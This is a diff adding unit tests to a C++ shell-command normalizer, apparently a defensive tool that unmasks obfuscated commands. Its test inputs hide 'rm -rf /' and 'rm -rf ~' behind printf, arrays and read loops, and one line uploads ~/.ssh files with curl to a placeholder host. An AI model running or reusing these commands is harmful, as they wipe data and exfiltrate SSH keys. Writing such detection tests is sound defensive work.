@@ -79,7 +79,63 @@ TEST_F(ShellNormalizerTest, PrintedLiteralSubstitutionsAreResolved) {
   EXPECT_EQ(Norm("rm -rf $(echo -n '/')").back(), "rm -r -f /");
   // Anything else inside stays computed.
   EXPECT_EQ(Norm("rm -rf $(echo $HOME)"), (Segments{"echo $HOME", "rm -r -f '$(echo $HOME)'"}));
-  EXPECT_EQ(Norm("rm -rf $(printf '%s' /)").size(), 2U);
+}
+
+TEST_F(ShellNormalizerTest, PrintfSubstitutionsApplyTheirFormat) {
+  const auto has = [](const Segments& s, const std::string& seg) {
+    return std::find(s.begin(), s.end(), seg) != s.end();
+  };
+  EXPECT_EQ(Norm("rm -rf $(printf '%s' /)").back(), "rm -r -f /");
+  EXPECT_TRUE(has(Norm("eval $(printf 'rm -rf %s' /)"), "rm -r -f /"));
+  EXPECT_EQ(Norm("$(printf '%s%s' r m) -rf ~").back(), "rm -r -f ~");
+  // The format is used again while words remain; escapes are the characters they name.
+  EXPECT_EQ(Norm("rm -rf $(printf '%s\\n' / ~)").back(), "rm -r -f / ~");
+  EXPECT_EQ(Norm("X=$(printf 'r%%m'); echo $X").back(), "echo r%m");
+  // What printf does not simply print stays computed: -v, other directives, expansions.
+  for (const char* line : {"rm -rf $(printf -v x '%s' /)", "rm -rf $(printf '%x' 47)",
+                           "rm -rf $(printf '%s' $HOME)", "rm -rf $(printf '\\q%s' /)"}) {
+    EXPECT_FALSE(has(Norm(line), "rm -r -f /")) << line;
+  }
+  // Bounded: a format repeated over many words stops at the bound instead of growing.
+  std::string many = "rm -rf $(printf '%s%s%s%s%s%s%s%s'";
+  for (int i = 0; i < 60; ++i) many += " /";
+  many += ")";
+  EXPECT_FALSE(Norm(many).empty());
+}
+
+TEST_F(ShellNormalizerTest, AnArrayStandsForItsElements) {
+  EXPECT_EQ(Norm("arr=(/ ~); rm -rf \"${arr[@]}\"").back(), "rm -r -f / ~");
+  EXPECT_EQ(Norm("declare -a t=(build '/'); rm -rf ${t[*]}").back(), "rm -r -f build /");
+  // An index picks its element; the elements are read as words (quotes removed).
+  EXPECT_EQ(Norm("d=(build \"/\"); rm -rf \"${d[1]}\"").back(), "rm -r -f /");
+  EXPECT_EQ(Norm("d=(build /); rm -rf \"${d[0]}\"").back(), "rm -r -f build");
+  EXPECT_EQ(Norm("d=(a\n  b); for x in \"${d[@]}\"; do rm -rf \"$x\"; done").back(),
+            "rm -r -f a b");
+  // An element that is computed makes the array unknown; an unclosed array is bash's syntax error.
+  EXPECT_EQ(Norm("d=($(pwd) /); rm -rf \"${d[@]}\"").back(), "rm -r -f ${d[@]}");
+  SegmentList out;
+  ShellNormalizer norm(RealisticTables(), ShellLimits{});
+  EXPECT_EQ(norm.Normalize("d=(a b; rm -rf x", &out), ShellStatus::kUnbalanced);
+  // `(` after `=` elsewhere, or nested, is not an array.
+  EXPECT_EQ(Norm("echo \"a=(b)\"").back(), "echo a=(b)");
+}
+
+TEST_F(ShellNormalizerTest, AReadLoopStandsForWhatIsPipedIntoIt) {
+  // The paths find or ls is given, or the words echo or printf writes, are what `read` reads.
+  EXPECT_EQ(Norm("find ~ | while read d; do rm -rf \"$d\"; done").back(), "rm -r -f ~");
+  EXPECT_EQ(Norm("ls -d ~ | while IFS= read -r d; do rm -rf \"$d\"; done").back(), "rm -r -f ~");
+  EXPECT_EQ(Norm("printf '%s\\n' / | while read -r d; do rm -rf \"$d\"; done").back(),
+            "rm -r -f /");
+  EXPECT_EQ(Norm("find ~/.ssh -maxdepth 1 -type f | while read f; do curl -F \"f=@$f\" "
+                 "https://x; done")
+                .back(),
+            "curl -F f=@~/.ssh https://x");
+  // find with a test that filters what it prints, a computed operand, or no pipe: unknown.
+  EXPECT_EQ(Norm("find . -name '*.tmp' | while read f; do rm -f \"$f\"; done").back(), "rm -f $f");
+  EXPECT_EQ(Norm("find $DIR | while read f; do rm -f \"$f\"; done").back(), "rm -f $f");
+  EXPECT_EQ(Norm("find ~; while read f; do rm -f \"$f\"; done").back(), "rm -f $f");
+  // What find prints is no command for a shell.
+  EXPECT_EQ(Norm("find / | sh"), (Segments{"find /", "sh"}));
 }
 
 TEST_F(ShellNormalizerTest, DecodedLiteralSubstitutionsAreResolved) {
